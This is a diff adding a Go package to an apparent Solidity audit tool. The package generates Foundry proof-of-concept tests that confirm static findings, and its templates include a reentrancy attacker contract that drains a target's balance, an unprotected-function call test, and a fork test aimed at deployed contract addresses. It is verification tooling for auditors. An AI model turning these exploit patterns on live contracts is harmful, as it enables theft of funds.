@@ -0,0 +1,362 @@
+// Package poc generates Foundry test scaffolds that bridge static findings
+// to dynamic verification: proof-of-concept exploits for individual findings
+// (an attacker contract and a test asserting the exploit) and invariant test
+// stubs suggested from a contract's surface.
+package poc
+
+import (
+	"bytes"
+	"fmt"
+	"os"
+	"path/filepath"
+	"sort"
+	"strings"
+	"text/template"
+
+	"github.com/Zubimendi/solsec/internal/parser"
+	"github.com/Zubimendi/solsec/internal/solidity"
+	"github.com/Zubimendi/solsec/internal/source"
+)
+
+// kinds maps the checks with a scaffold to their exploit template, whose
+// name also prefixes the generated contracts.
+var kinds = map[string]string{
+	"reentrancy-eth":                "reentrancy",
+	"reentrancy-no-eth":             "reentrancy",
+	"reentrancy-benign":             "reentrancy",
+	"custom-reentrancy-ordering":    "reentrancy",
+	"custom-missing-access-control": "access-control",
+	"unprotected-upgrade":           "access-control",
+	"arbitrary-send-eth":            "access-control",
+	"suicidal":                      "access-control",
+}
+
+// kindNames are the kinds in CamelCase, for contract and file names.
+var kindNames = map[string]string{
+	"reentrancy":     "Reentrancy",
+	"access-control": "AccessControl",
+}
+
+// Supported returns the checks a scaffold can be generated for, sorted.
+func Supported() []string {
+	var checks []string
+	for c := range kinds {
+		checks = append(checks, c)
+	}
+	sort.Strings(checks)
+	return checks
+}
+
+// DefaultPath is where the scaffold for f is written when no path is given.
+func DefaultPath(f *parser.Finding) string {
+	return filepath.Join("test", "poc", fmt.Sprintf("%s_%s_%s.t.sol", f.Contract, f.Function, kindNames[kinds[f.Check]]))
+}
+
+// Generate renders the scaffold for f, to be written at outputPath (imports
+// of the target are relative to it).
+func Generate(f *parser.Finding, outputPath string) ([]byte, error) {
+	kind, ok := kinds[f.Check]
+	if !ok {
+		return nil, fmt.Errorf("no PoC template for %s (supported: %s)", f.Check, strings.Join(Supported(), ", "))
+	}
+	v, err := newView(f, kind, outputPath)
+	if err != nil {
+		return nil, err
+	}
+
+	var out bytes.Buffer
+	if err := templates.ExecuteTemplate(&out, kind, v); err != nil {
+		return nil, fmt.Errorf("rendering PoC: %w", err)
+	}
+	return out.Bytes(), nil
+}
+
+// ForkRPCEnv is the environment variable fork tests read the RPC URL from,
+// so the URL (and any API key in it) is never written to the test file.
+const ForkRPCEnv = "SOLSEC_FORK_RPC"
+
+// ForkSupported reports whether a fork test can be generated for f: its
+// exploit needs no setup beyond calling the flagged function.
+func ForkSupported(f *parser.Finding) bool {
+	return kinds[f.Check] == "access-control"
+}
+
+// GenerateFork renders a fork test, to be written at outputPath, that calls
+// the function flagged by f on the contract deployed at address from an
+// arbitrary account, on a fork at block (0 means the latest). The test
+// passes only if the call succeeds, confirming the finding.
+func GenerateFork(f *parser.Finding, outputPath, address string, block uint64) ([]byte, error) {
+	if !ForkSupported(f) {
+		return nil, fmt.Errorf("no fork test for %s (supported: access-control findings)", f.Check)
+	}
+	v, err := newView(f, "access-control", outputPath)
+	if err != nil {
+		return nil, err
+	}
+	if strings.Contains(v.TestArgs, "TODO") {
+		return nil, fmt.Errorf("%s.%s() takes arguments without a placeholder (%s)", f.Contract, f.Function, v.TestArgs)
+	}
+	// One test per function, so several may share a forge run.
+	v.Name = f.Contract + "_" + f.Function
+	v.Address, v.Block, v.RPCEnv = address, block, ForkRPCEnv
+
+	var out bytes.Buffer
+	if err := templates.ExecuteTemplate(&out, "fork-access-control", v); err != nil {
+		return nil, fmt.Errorf("rendering fork test: %w", err)
+	}
+	return out.Bytes(), nil
+}
+
+// newView locates f's contract and function and fills in the template data.
+func newView(f *parser.Finding, kind, outputPath string) (view, error) {
+	if f.Contract == "" || f.Function == "" || f.File == "" {
+		return view{}, fmt.Errorf("finding %s is not located inside a contract function", f.ID)
+	}
+
+	data, err := os.ReadFile(f.File)
+	if err != nil {
+		return view{}, fmt.Errorf("reading target source: %w", err)
+	}
+	src := solidity.Parse(f.File, string(data))
+	var contract *solidity.Contract
+	for i := range src.Contracts {
+		if src.Contracts[i].Name == f.Contract {
+			contract = &src.Contracts[i]
+		}
+	}
+	if contract == nil {
+		return view{}, fmt.Errorf("contract %s not found in %s", f.Contract, f.File)
+	}
+	if contract.Kind != "contract" || contract.Abstract {
+		return view{}, fmt.Errorf("%s is not a deployable contract", f.Contract)
+	}
+	var fn, ctor *solidity.Function
+	for i := range contract.Functions {
+		switch contract.Functions[i].Name {
+		case f.Function:
+			fn = &contract.Functions[i]
+		case "constructor":
+			ctor = &contract.Functions[i]
+		}
+	}
+	if fn == nil {
+		return view{}, fmt.Errorf("function %s not found in %s", f.Function, f.Contract)
+	}
+
+	importPath, err := relativeImport(outputPath, f.File)
+	if err != nil {
+		return view{}, err
+	}
+	var ctorArgs string
+	if ctor != nil {
+		ctorArgs = arguments(ctor.Params, "address(this)")
+	}
+	pragma := source.Pragma(string(data))
+	if pragma == "" {
+		pragma = "^0.8.0"
+	}
+
+	return view{
+		Finding:  f,
+		Name:     f.Contract + kindNames[kind],
+		Pragma:   pragma,
+		Import:   importPath,
+		Payable:  fn.Payable,
+		Line:     firstLine(f),
+		Args:     arguments(fn.Params, "address(this)"),
+		TestArgs: arguments(fn.Params, "attacker"),
+		CtorArgs: ctorArgs,
+	}, nil
+}
+
+type view struct {
+	*parser.Finding
+	Name     string // prefix of the generated contracts, e.g. "TokenReentrancy"
+	Pragma   string
+	Import   string
+	Payable  bool
+	Line     int
+	Args     string // call arguments from the attacker contract
+	TestArgs string // call arguments from the test contract
+	CtorArgs string
+
+	// Fork tests only.
+	Address string
+	Block   uint64
+	RPCEnv  string
+}
+
+func firstLine(f *parser.Finding) int {
+	if len(f.Lines) > 0 {
+		return f.Lines[0]
+	}
+	return 0
+}
+
+// relativeImport is the import path of target as seen from the file at
+// outputPath.
+func relativeImport(outputPath, target string) (string, error) {
+	from, err := filepath.Abs(filepath.Dir(outputPath))
+	if err != nil {
+		return "", err
+	}
+	to, err := filepath.Abs(target)
+	if err != nil {
+		return "", err
+	}
+	rel, err := filepath.Rel(from, to)
+	if err != nil {
+		return "", err
+	}
+	rel = filepath.ToSlash(rel)
+	if !strings.HasPrefix(rel, ".") {
+		rel = "./" + rel
+	}
+	return rel, nil
+}
+
+// arguments builds placeholder call arguments for params. Addresses become
+// self (the attacking account); types without an obvious placeholder are
+// left as TODOs that must be filled in before the test compiles.
+func arguments(params []solidity.Param, self string) string {
+	args := make([]string, 0, len(params))
+	for _, p := range params {
+		args = append(args, placeholder(p.Type, self))
+	}
+	return strings.Join(args, ", ")
+}
+
+func placeholder(typ, self string) string {
+	switch {
+	case strings.HasSuffix(typ, "]"):
+		return fmt.Sprintf("/* TODO: %s */", typ)
+	case typ == "address" || typ == "address payable":
+		return self
+	case typ == "uint256" || typ == "uint":
+		return "1 ether"
+	case strings.HasPrefix(typ, "uint") || strings.HasPrefix(typ, "int"):
+		return fmt.Sprintf("%s(1)", typ)
+	case typ == "bool":
+		return "true"
+	case typ == "string" || typ == "bytes":
+		return `""`
+	case strings.HasPrefix(typ, "bytes"):
+		return fmt.Sprintf("%s(0)", typ)
+	default:
+		return fmt.Sprintf("/* TODO: %s */", typ)
+	}
+}
+
+var templates = template.Must(template.New("poc").Parse(`{{define "header"}}// SPDX-License-Identifier: UNLICENSED
+pragma solidity {{.Pragma}};
+
+// Proof-of-concept scaffold generated by solsec for finding {{.Fingerprint}}:
+//   {{.Title}} ({{.Check}}) in {{.Contract}}.{{.Function}}(), line {{.Line}}.
+// Fill in the TODOs, then run:
+//   forge test --match-contract {{.Name}}PoC -vvvv
+// A passing test confirms the finding. If it cannot be made to pass, the
+// finding is likely a false positive.
+
+import {Test} from "forge-std/Test.sol";
+import { {{- .Contract -}} } from "{{.Import}}";
+{{end}}
+
+{{define "reentrancy"}}{{template "header" .}}
+contract {{.Name}}Attacker {
+    {{.Contract}} public immutable target;
+    uint256 public reentries;
+
+    constructor({{.Contract}} _target) {
+        target = _target;
+    }
+
+    function attack() external payable {
+        // TODO: first build a position worth stealing, e.g. deposit msg.value.
+        target.{{.Function}}{{if .Payable}}{value: msg.value}{{end}}({{.Args}});
+    }
+
+    receive() external payable {
+        // Re-enter while the target still holds funds.
+        if (reentries < 5 && address(target).balance > 0) {
+            reentries++;
+            target.{{.Function}}({{.Args}});
+        }
+    }
+}
+
+contract {{.Name}}PoC is Test {
+    {{.Contract}} target;
+    {{.Name}}Attacker attacker;
+
+    function setUp() public {
+        target = new {{.Contract}}({{.CtorArgs}});
+        // TODO: replace with honest users' deposits so the target's
+        // accounting matches its balance.
+        vm.deal(address(target), 10 ether);
+        attacker = new {{.Name}}Attacker(target);
+        vm.deal(address(this), 1 ether);
+    }
+
+    function test_exploit_{{.Function}}_reentrancy() public {
+        uint256 before = address(target).balance;
+        attacker.attack{value: 1 ether}();
+
+        assertGt(attacker.reentries(), 0, "{{.Function}}() was not re-entered");
+        assertLt(address(target).balance, before, "target lost no funds");
+    }
+}
+{{end}}
+
+{{define "access-control"}}{{template "header" .}}
+contract {{.Name}}PoC is Test {
+    {{.Contract}} target;
+    address attacker = makeAddr("attacker");
+
+    function setUp() public {
+        target = new {{.Contract}}({{.CtorArgs}});
+    }
+
+    function test_exploit_{{.Function}}_unrestricted() public {
+        // TODO: record the state {{.Function}}() should protect (owner,
+        // balances, supply, implementation...).
+        {{- if .Payable}}
+        vm.deal(attacker, 1 ether);{{end}}
+
+        vm.prank(attacker);
+        target.{{.Function}}{{if .Payable}}{value: 1 ether}{{end}}({{.TestArgs}});
+
+        // Reaching this line means an arbitrary account called {{.Function}}().
+        // TODO: assert the privileged effect, e.g. assertEq(target.owner(), attacker).
+    }
+}
+{{end}}
+
+{{define "fork-access-control"}}// SPDX-License-Identifier: UNLICENSED
+pragma solidity {{.Pragma}};
+
+// Fork test generated by solsec validate for finding {{.Fingerprint}}:
+//   {{.Title}} ({{.Check}}) in {{.Contract}}.{{.Function}}(), line {{.Line}}.
+// It calls {{.Function}}() on the contract deployed at {{.Address}} from an
+// arbitrary account. Passing confirms the finding; a revert means it did
+// not reproduce. The RPC URL is read from ${{.RPCEnv}}.
+
+import {Test} from "forge-std/Test.sol";
+import { {{- .Contract -}} } from "{{.Import}}";
+
+contract {{.Name}}Fork is Test {
+    {{.Contract}} target;
+    address attacker = makeAddr("attacker");
+
+    function setUp() public {
+        vm.createSelectFork(vm.envString("{{.RPCEnv}}"){{if .Block}}, {{.Block}}{{end}});
+        target = {{.Contract}}(payable(vm.parseAddress("{{.Address}}")));
+    }
+
+    function test_fork_{{.Function}}_unrestricted() public {
+        {{- if .Payable}}
+        vm.deal(attacker, 1 ether);{{end}}
+        vm.prank(attacker);
+        target.{{.Function}}{{if .Payable}}{value: 1 ether}{{end}}({{.TestArgs}});
+    }
+}
+{{end}}`))